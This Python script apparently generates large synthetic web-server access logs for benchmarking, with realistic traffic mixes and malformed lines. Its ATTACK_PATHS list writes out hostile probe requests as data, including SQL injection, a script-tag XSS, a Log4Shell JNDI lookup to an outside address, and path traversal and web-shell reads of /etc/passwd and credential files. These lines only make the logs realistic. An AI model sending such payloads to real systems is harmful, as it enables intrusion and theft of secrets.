#!/usr/bin/env python3
"""Generates a large, realistic Apache/Nginx combined access log, deterministically.

    python3 data/generators/gen-combined.py --size 1G --out bench/work/access_1g.log
    python3 data/generators/gen-combined.py --lines 1000000 --seed 7 --malformed-ratio 0.001 --nginx --out x.log

Shape of the traffic (chosen to look like a public web site with an API):
- clients: Zipf-skewed over a pool sized for about 50,000 distinct addresses per million lines,
  about 6 % of them IPv6; a few heavy hitters (crawlers, NAT gateways) make a large share;
- requests: about 20,000 distinct paths (pages, static files, API routes with numeric ids and
  UUIDs, searches with query strings, attack probes), Zipf-skewed;
- time: several days, a day/night curve (quiet around 04:00, busy around 14:00-21:00), weekends
  lighter; timestamps never go backwards;
- method, status and bytes mixes by kind of path; `-` bytes for 304 and most HEAD responses;
- referers (`-` about half the time) and browser, crawler and tool user agents, some with `\\"`.

The same arguments give the same bytes (on a given Python version: only random.random() and
random.choices() with cumulative weights are used, both built on random()).

Speed: everything per line is a pick from a pre-built pool of strings; picks are made for a
block of lines at a time with random.choices(k=...), and blocks are written through one large
buffer. About 100-120 MB/s on one core here (1M lines, 238 MB, in about 2 s).
"""

import argparse
import bisect
import itertools
import math
import os
import random
import sys
import time
from datetime import datetime, timedelta, timezone

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
BLOCK_LINES = 8192
AVG_LINE_BYTES = 238  # measured on the default mix; used only to size pools and the time span from --size


def parse_size(text):
    text = text.strip().upper().rstrip("B")
    mult = 1
    for suffix, m in (("K", 1 << 10), ("M", 1 << 20), ("G", 1 << 30), ("T", 1 << 40)):
        if text.endswith(suffix):
            text, mult = text[:-1], m
            break
    return int(float(text) * mult)


def zipf_cum_weights(n, s, q=0.0):
    """Cumulative Zipf-Mandelbrot weights 1/(rank+q)^s for ranks 1..n."""
    cw, total = [], 0.0
    for rank in range(1, n + 1):
        total += 1.0 / (rank + q) ** s
        cw.append(total)
    return cw


# ---------------------------------------------------------------------------------------------
# pools


def build_ip_pool(rng, size):
    """Distinct client addresses; the pool order is the popularity order (rank 1 first)."""
    seen, pool = set(), []
    while len(pool) < size:
        if rng.random() < 0.06:
            ip = "2001:db8:%x:%x::%x" % (rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16) or 1)
        else:
            # Avoid 0 and 255 in the last octet; keep the first octet in public-looking ranges.
            ip = "%d.%d.%d.%d" % (rng.choice(FIRST_OCTETS), rng.getrandbits(8), rng.getrandbits(8), 1 + rng.randrange(254))
        if ip not in seen:
            seen.add(ip)
            pool.append(ip)
    return pool


FIRST_OCTETS = [a for a in range(1, 224) if a not in (10, 127, 169, 172, 192)]

WORDS = ("account admin alpha api archive assets auth beta billing blog calendar cart catalog checkout "
         "comments config contact dashboard data docs download events export faq feed files forum gallery "
         "help home images import inbox index invoices items jobs labels login logout media messages metrics "
         "news notes orders pages partners payments photos plans posts pricing products profile projects "
         "reports search settings shop signup sitemap status store support tags teams tickets tools upload "
         "users videos wiki").split()
EXTS_STATIC = [".css", ".js", ".png", ".jpg", ".svg", ".woff2", ".ico", ".webp", ".map"]
ATTACK_PATHS = [
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/.aws/credentials", "/server-status",
    "/phpmyadmin/index.php", "/cgi-bin/../../../../etc/passwd", "/admin/config.php.bak",
    "/index.php?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/api/v1/users?name=${jndi:ldap://198.51.100.7/a}", "/shell.php?cmd=cat%20/etc/passwd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx", "/actuator/env",
]
PROTOCOLS = [("HTTP/1.1", 70), ("HTTP/2.0", 25), ("HTTP/1.0", 5)]


def weighted_choice(rng, pairs):
    total = sum(w for _, w in pairs)
    x = rng.random() * total
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]


def build_request_pool(rng, size):
    """(request line, kind) pairs; kind steers status and bytes. Order = popularity."""
    pool, seen = [], set()
    # Most popular first: home, a few pages, core static assets.
    for p in ["/", "/index.html", "/favicon.ico", "/robots.txt", "/static/css/site.css", "/static/js/app.js",
              "/api/health", "/login", "/search", "/blog/"]:
        pool.append(("GET %s HTTP/1.1" % p, "static" if "." in p and p != "/index.html" else "page"))
        seen.add(p)
    while len(pool) < size:
        r = rng.random()
        if r < 0.30:
            p = "/%s/%s" % (rng.choice(WORDS), rng.choice(WORDS))
            if rng.random() < 0.3:
                p += "/%s" % rng.choice(WORDS)
            kind = "page"
        elif r < 0.50:
            p = "/static/%s/%s-%x%s" % (rng.choice(["css", "js", "img", "fonts"]), rng.choice(WORDS), rng.getrandbits(24), rng.choice(EXTS_STATIC))
            kind = "static"
        elif r < 0.75:
            res = rng.choice(WORDS)
            form = rng.random()
            if form < 0.5:
                p = "/api/v1/%s/%d" % (res, rng.randrange(1, 200000))
            elif form < 0.7:
                p = "/api/v1/%s/%08x-%04x-4%03x-%04x-%012x" % (res, rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(12), 0x8000 | rng.getrandbits(14), rng.getrandbits(48))
            elif form < 0.85:
                p = "/api/v1/%s/%d/%s" % (res, rng.randrange(1, 50000), rng.choice(WORDS))
            else:
                p = "/api/v1/%s?limit=%d&offset=%d" % (res, rng.choice([10, 20, 50, 100]), 10 * rng.randrange(0, 100))
            kind = "api"
        elif r < 0.93:
            p = "/%s?q=%s+%s&page=%d" % (rng.choice(["search", "products", "shop/search", "docs/search"]), rng.choice(WORDS), rng.choice(WORDS), rng.randrange(1, 6))
            if rng.random() < 0.3:
                p += "&sort=%s" % rng.choice(["price_asc", "price_desc", "newest", "relevance"])
            kind = "query"
        elif r < 0.97:
            p = "/%s/%s-%d.html" % (rng.choice(WORDS), rng.choice(WORDS), rng.randrange(1, 5000))
            kind = "missing"
        else:
            p = rng.choice(ATTACK_PATHS)
            if rng.random() < 0.6:
                p = "/%s%s" % (rng.choice(WORDS), p)
            kind = "attack"
        if p in seen:
            continue
        seen.add(p)
        if kind == "api":
            method = weighted_choice(rng, [("GET", 70), ("POST", 18), ("PUT", 7), ("DELETE", 3), ("PATCH", 2)])
        elif kind == "static":
            method = weighted_choice(rng, [("GET", 97), ("HEAD", 3)])
        elif kind == "attack":
            method = weighted_choice(rng, [("GET", 80), ("POST", 20)])
        else:
            method = weighted_choice(rng, [("GET", 93), ("HEAD", 4), ("POST", 3)])
        pool.append(("%s %s %s" % (method, p, weighted_choice(rng, PROTOCOLS)), kind))
    return pool


STATUS_BY_KIND = {
    "page": [(200, 85), (304, 8), (301, 3), (302, 2), (404, 1), (500, 0.5), (503, 0.3)],
    "static": [(200, 70), (304, 25), (206, 2), (404, 2), (403, 0.3)],
    "api": [(200, 78), (201, 6), (204, 3), (400, 3), (401, 4), (403, 1.5), (404, 2), (429, 1), (500, 1), (502, 0.3), (503, 0.5)],
    "query": [(200, 92), (301, 1), (400, 2), (404, 2), (500, 1)],
    "missing": [(404, 80), (301, 10), (410, 5), (200, 5)],
    "attack": [(404, 60), (403, 25), (400, 10), (500, 3), (200, 2)],
}


def build_status_bytes_pools(rng, per_kind=600):
    """For each kind: a list of 'STATUS BYTES' strings and cumulative weights (status mix x size)."""
    pools = {}
    for kind, mix in STATUS_BY_KIND.items():
        items, cw, total = [], [], 0.0
        for status, weight in mix:
            n = max(4, int(per_kind * weight / 100))
            for _ in range(n):
                if status in (304, 204):
                    b = "-"
                elif status == 206:
                    b = str(rng.choice([65536, 131072, 1048576]))
                elif status >= 300:
                    b = str(150 + rng.randrange(450))
                elif kind == "static":
                    b = str(int(math.exp(rng.gauss(9.0, 1.4))))
                elif kind == "api":
                    b = str(int(math.exp(rng.gauss(6.5, 1.3))))
                else:
                    b = str(int(math.exp(rng.gauss(9.3, 0.9))))
                items.append("%d %s" % (status, b))
                total += weight / n
                cw.append(total)
        pools[kind] = (items, cw)
    return pools


BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 30),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 10),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_%d) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15", 8),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 6),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1", 12),
    ("Mozilla/5.0 (Linux; Android 14; Pixel %d) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36", 8),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.2365.66", 5),
]
BOTS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 5),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 3),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 1),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.5),
    ("Mozilla/5.0 (compatible; ExampleCrawler/1.4; +https://crawler.example.net/about)", 1),
    ("curl/8.%d.0", 2),
    ("python-requests/2.%d.0", 2),
    ("Go-http-client/1.1", 1),
    ("Wget/1.21.%d", 0.5),
    ("okhttp/4.%d.0", 1),
    ("Mozilla/5.0 (compatible; \\\"QuotedBot\\\"/1.%d; +https://bot.example.org)", 0.3),
    ("sqlmap/1.7.%d#stable (https://sqlmap.org)", 0.2),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00%d)", 0.1),
    ("-", 0.5),
]
REFERER_HOSTS = ["https://www.example.com", "https://shop.example.com", "https://blog.example.com",
                 "https://search.example.org", "https://news.example.net", "http://partner.example.info"]


def build_tail_pool(rng, size):
    """'"REFERER" "UA"' strings (the two quoted fields at the end of a combined line)."""
    uas = []
    for tpl, w in BROWSERS + BOTS:
        for _ in range(max(1, int(w * 4))):
            n = tpl.count("%d")
            v = 100 + rng.randrange(26) if (tpl, w) in BROWSERS else rng.randrange(1, 10)
            uas.append(tpl % ((v,) * n) if n else tpl)
    ua_w = []
    for tpl, w in BROWSERS + BOTS:
        ua_w.extend([w] * max(1, int(w * 4)))
    ua_cw = list(itertools.accumulate(ua_w))
    out = []
    for _ in range(size):
        ua = uas[bisect.bisect(ua_cw, rng.random() * ua_cw[-1])]
        if rng.random() < 0.5:
            ref = "-"
        else:
            ref = "%s/%s/%s" % (rng.choice(REFERER_HOSTS), rng.choice(WORDS), rng.choice(WORDS))
            if rng.random() < 0.3:
                ref += "?utm_source=%s&utm_medium=%s" % (rng.choice(WORDS), rng.choice(["email", "social", "cpc"]))
        out.append('"%s" "%s"' % (ref, ua))
    return out


def build_request_time_pool(rng, size=2000):
    return [" %.3f" % min(60.0, math.exp(rng.gauss(-3.5, 1.2))) for _ in range(size)]


# ---------------------------------------------------------------------------------------------
# time


def diurnal(minute_of_day, weekday):
    hour = minute_of_day / 60.0
    # Quiet at 04:00, peak around 15:00-20:00; 0.15 .. 1.0.
    v = 0.575 - 0.425 * math.cos((hour - 4.0) / 24.0 * 2 * math.pi)
    if weekday >= 5:
        v *= 0.7
    return v


def time_stream(rng, start, expected_lines, days, offset_text):
    """Yields lists of timestamp strings, one list per minute, forever; the counts follow diurnal()."""
    weights = []
    t = start
    for m in range(days * 1440):
        weights.append(diurnal(m % 1440, (t + timedelta(minutes=m)).weekday()))
    per_weight = expected_lines / sum(weights)
    minute = 0
    while True:
        dt = start + timedelta(minutes=minute)
        prefix = "%02d/%s/%04d:%02d:%02d:" % (dt.day, MONTHS[dt.month - 1], dt.year, dt.hour, dt.minute)
        rate = per_weight * diurnal(minute % 1440, dt.weekday())
        count = int(rate + rng.random())
        if count:
            secs = [prefix + "%02d %s" % (s, offset_text) for s in range(60)]
            yield [secs[j * 60 // count] for j in range(count)]
        minute += 1


# ---------------------------------------------------------------------------------------------
# malformed lines


def malformed_line(rng, good):
    kind = rng.randrange(7)
    if kind == 0:
        return good[: rng.randrange(10, max(11, len(good) - 20))]  # truncated
    if kind == 1:
        return "".join(chr(rng.randrange(33, 127)) for _ in range(rng.randrange(10, 80)))  # garbage
    if kind == 2:
        a = good.find("[")
        return good[: a + 1] + "32/Foo/2024:25:61:99" + good[a + 21:] if a >= 0 else good  # bad time
    if kind == 3:
        q = good.find('" ', good.find('"') + 1)
        return good[: q + 2] + "2O0" + good[q + 5:] if q > 0 else good  # bad status
    if kind == 4:
        return good.replace(" HTTP/", " with raw spaces HTTP/", 1)  # raw spaces in the target
    if kind == 5:
        return ""  # blank line
    return good.replace('"', "", 1)  # missing opening quote


# ---------------------------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description="Deterministic generator of a large combined access log.")
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--lines", type=int, help="number of lines to write")
    g.add_argument("--size", help="approximate size to write, e.g. 100M, 1G (stops at the first line end past it)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", required=True, help="output file ('-' for stdout)")
    ap.add_argument("--malformed-ratio", type=float, default=0.0005, help="share of malformed lines (default 0.0005)")
    ap.add_argument("--nginx", action="store_true", help="append $request_time (seconds) to each line")
    ap.add_argument("--days", type=int, default=7, help="time span the expected line count is spread over")
    ap.add_argument("--start", default="2024-03-04", help="first day (UTC), YYYY-MM-DD")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()

    target_bytes = parse_size(args.size) if args.size else None
    expected_lines = args.lines if args.lines is not None else max(1, target_bytes // AVG_LINE_BYTES)

    rng = random.Random(args.seed)
    # Pool sizes: with Zipf s=1.05, q=4 over the pool, about 50,000 distinct clients show up per
    # million lines when the pool holds about 0.055 addresses per line (measured).
    ip_pool = build_ip_pool(rng, max(1000, min(2_000_000, int(expected_lines * 0.055))))
    ip_cw = zipf_cum_weights(len(ip_pool), 1.05, 4.0)
    req_pool = build_request_pool(rng, 20000)
    req_cw = zipf_cum_weights(len(req_pool), 0.95)
    req_text = [r for r, _ in req_pool]
    req_kind = [k for _, k in req_pool]
    sb_pools = build_status_bytes_pools(rng)
    tail_pool = build_tail_pool(rng, 6000)
    tail_cw = zipf_cum_weights(len(tail_pool), 0.8)
    rt_pool = build_request_time_pool(rng) if args.nginx else None
    users = ["alice", "bob", "carol", "dave", "svc-backup", "admin"]

    start = datetime.strptime(args.start, "%Y-%m-%d").replace(tzinfo=timezone.utc)
    times = time_stream(rng, start, expected_lines, args.days, "+0000")
    pending_times = []

    if args.out != "-" and os.path.dirname(args.out):
        os.makedirs(os.path.dirname(args.out), exist_ok=True)
    out = sys.stdout.buffer if args.out == "-" else open(args.out, "wb", buffering=0)
    choices = rng.choices
    written_bytes = 0
    written_lines = 0
    started = time.perf_counter()
    malformed_ratio = args.malformed_ratio
    try:
        while True:
            n = BLOCK_LINES
            if args.lines is not None:
                n = min(n, args.lines - written_lines)
                if n <= 0:
                    break
            while len(pending_times) < n:
                pending_times.extend(next(times))
            ts, pending_times = pending_times[:n], pending_times[n:]

            ips = choices(ip_pool, cum_weights=ip_cw, k=n)
            reqs = choices(range(len(req_text)), cum_weights=req_cw, k=n)
            tails = choices(tail_pool, cum_weights=tail_cw, k=n)
            # Status+bytes per kind: draw a block per kind, then take them in order.
            sbs = []
            by_kind = {}
            for k in req_kind_counts(reqs, req_kind):
                items, cw = sb_pools[k[0]]
                by_kind[k[0]] = iter(choices(items, cum_weights=cw, k=k[1]))
            sbs = [next(by_kind[req_kind[r]]) for r in reqs]
            if rt_pool is not None:
                rts = choices(rt_pool, k=n)
                lines = ['%s - - [%s] "%s" %s %s%s\n' % (a, t, req_text[r], s, tl, rt)
                         for a, t, r, s, tl, rt in zip(ips, ts, reqs, sbs, tails, rts)]
            else:
                lines = ['%s - - [%s] "%s" %s %s\n' % (a, t, req_text[r], s, tl)
                         for a, t, r, s, tl in zip(ips, ts, reqs, sbs, tails)]
            # About 1 % of requests are authenticated.
            for i in range(int(n * 0.01 + rng.random())):
                j = rng.randrange(n)
                lines[j] = lines[j].replace(" - - [", " - %s [" % rng.choice(users), 1)
            if malformed_ratio > 0:
                for i in range(int(n * malformed_ratio + rng.random())):
                    j = rng.randrange(n)
                    lines[j] = malformed_line(rng, lines[j][:-1]) + "\n"
            data = "".join(lines).encode("ascii")
            if target_bytes is not None and written_bytes + len(data) >= target_bytes:
                cut = data.find(b"\n", target_bytes - written_bytes - 1)
                data = data[: cut + 1] if cut >= 0 else data
                out.write(data)
                written_bytes += len(data)
                written_lines += data.count(b"\n")
                break
            out.write(data)
            written_bytes += len(data)
            written_lines += n
    finally:
        if out is not sys.stdout.buffer:
            out.close()
    elapsed = time.perf_counter() - started
    if not args.quiet:
        print("gen-combined: %d lines, %d bytes in %.1f s (%.0f MB/s) -> %s" % (
            written_lines, written_bytes, elapsed, written_bytes / 1e6 / max(elapsed, 1e-9), args.out), file=sys.stderr)
    return 0


def req_kind_counts(reqs, req_kind):
    counts = {}
    for r in reqs:
        k = req_kind[r]
        counts[k] = counts.get(k, 0) + 1
    return counts.items()


if __name__ == "__main__":
    sys.exit(main())
